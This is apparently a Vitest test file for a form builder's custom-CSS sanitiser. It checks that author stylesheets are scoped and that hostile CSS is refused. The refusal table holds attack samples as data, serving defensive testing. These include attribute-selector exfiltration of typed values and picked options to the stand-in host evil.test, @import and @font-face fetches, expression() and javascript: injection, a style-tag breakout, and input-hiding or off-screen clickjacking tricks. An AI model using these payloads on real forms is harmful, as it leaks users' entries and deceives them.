import { describe, expect, it } from "vitest";
import { CUSTOM_CSS_ROOT, scopeCustomCss } from "./custom-css.ts";

const refusedWith = (css: string) => {
  const result = scopeCustomCss(css);
  return result.ok ? "accepted" : result.code;
};

describe("an author's custom CSS", () => {
  it("is put under the form's root, selector by selector, media queries included", () => {
    const result = scopeCustomCss(
      ".question, > p { color: #223344; font-size: 18px }\n@media (max-width: 600px) { button:hover { border-radius: 12px } }",
    );
    expect(result).toEqual({
      ok: true,
      css: `${CUSTOM_CSS_ROOT} .question,${CUSTOM_CSS_ROOT} >p{color:#223344;font-size:18px}\n@media (max-width:600px){${CUSTOM_CSS_ROOT} button:hover{border-radius:12px}}`,
    });
  });

  it("keeps https pictures and this server's own files, and nothing at all for an empty sheet", () => {
    expect(refusedWith("div { background: url(https://images.example.com/a.png) }")).toBe("accepted");
    expect(refusedWith(`div { background: url("/api/assets/${"a".repeat(32)}") }`)).toBe("accepted");
    expect(scopeCustomCss("  ")).toEqual({ ok: true, css: "" });
  });

  const HOSTILE: Array<[string, string, string]> = [
    ["the page's body", "body { background: red }", "style.css.selector"],
    ["the document's root", ":root { color: red }", "style.css.selector"],
    ["html before a form's element", "html .question { color: red }", "style.css.selector"],
    ["body inside :is()", ":is(body) p { color: red }", "style.css.selector"],
    ["body inside :not() of a list", "p, :not(body) { color: red }", "style.css.selector"],
    ["a nesting selector", "& p { color: red }", "style.css.selector"],
    ["the root's following siblings", "~ p { color: red }", "style.css.selector"],
    ["the root's next sibling", "+ div { color: red }", "style.css.selector"],
    [
      "reading typed values out through pictures",
      'input[value^="a"] { background: url(https://evil.test/a.png) }',
      "style.css.selector",
    ],
    [
      "typed values read through a namespaced attribute",
      'input[*|value^="a"] { background: url(https://evil.test/a.png) }',
      "style.css.selector",
    ],
    [
      "typed values read through an empty namespace",
      'input[|value^="a"] { background: url(https://evil.test/a.png) }',
      "style.css.selector",
    ],
    [
      "a picked choice read out through a picture",
      "#opt-3:checked { background: url(https://evil.test/q1-3.png) }",
      "style.css.selector",
    ],
    [
      "an emptied field read out inside :has()",
      ".field:has(input:placeholder-shown) { background: url(https://evil.test/empty.png) }",
      "style.css.selector",
    ],
    ["a nested rule", "p { a { color: red } }", "style.css.invalid"],
    ["@import", '@import "https://evil.test/x.css";', "style.css.forbidden"],
    [
      "@font-face",
      "@font-face { font-family: x; src: url(https://evil.test/x.woff2) }",
      "style.css.forbidden",
    ],
    ["@media inside @media", "@media print { @media screen { p { color: red } } }", "style.css.forbidden"],
    ["expression(", "p { width: expression(alert(1)) }", "style.css.forbidden"],
    ["expression( written with an escape", "p { width: expr\\65ssion(alert(1)) }", "style.css.forbidden"],
    ["a javascript: address", "p { background: url(javascript:alert(1)) }", "style.css.forbidden"],
    ["a plain http picture", "p { background: url(http://evil.test/x.png) }", "style.url.forbidden"],
    ["a data: picture", "p { background: url(data:image/png;base64,AAAA) }", "style.url.forbidden"],
    ["a picture loaded by image-set()", "p { background: image-set('x.png' 1x) }", "style.css.forbidden"],
    ["a closing style tag", "p::after { content: '</style><script>' }", "style.css.forbidden"],
    ["-moz-binding", "p { -moz-binding: url(https://evil.test/x.xml) }", "style.css.forbidden"],
    ["hidden inputs", "input { display: none }", "style.hidden"],
    ["invisible inputs", "input { visibility: hidden }", "style.hidden"],
    ["transparent inputs", "input { opacity: 0 }", "style.hidden"],
    ["inputs that do not take a click", "input { pointer-events: none }", "style.hidden"],
    ["zero-width fields", ".question { width: 0 }", "style.hidden"],
    ["zero-size text", "p { font-size: 0 }", "style.size.too_small"],
    ["tiny text in the shorthand", "p { font: 6px/1.2 serif }", "style.size.too_small"],
    ["tiny text in em", "p { font-size: 0.3em }", "style.size.too_small"],
    ["transparent text", "p { color: transparent }", "style.hidden"],
    ["a button pulled off the screen", "button { margin-left: -9999px }", "style.value.invalid"],
    ["a button pushed off the screen", "button { margin-top: 9999px }", "style.value.invalid"],
    ["a button pushed off in viewport units", "button { margin-left: 900vw }", "style.value.invalid"],
    ["a fixed overlay over the page", "div { position: fixed }", "style.css.forbidden"],
    ["a button moved by a transform", "button { transform: translateX(-5000px) }", "style.css.forbidden"],
    ["a field cut away", ".question { clip-path: inset(100%) }", "style.css.forbidden"],
    ["a field put behind the page", ".question { z-index: -1 }", "style.hidden"],
    ["a custom property the form's own variables would take", "p { --fl-color: red }", "style.css.forbidden"],
    ["broken CSS", "p { color: red }}", "style.css.invalid"],
  ];
  for (const [what, css, code] of HOSTILE) {
    it(`is refused: ${what}`, () => {
      expect(refusedWith(css)).toBe(code);
    });
  }

  it("names the line a refusal is on", () => {
    expect(scopeCustomCss("p { color: red }\n\ninput { display: none }")).toMatchObject({
      ok: false,
      code: "style.hidden",
      line: 3,
    });
  });

  it("refuses a sheet past its length limit", () => {
    expect(refusedWith(`p{color:red}`.repeat(2000))).toBe("style.css.invalid");
  });
});
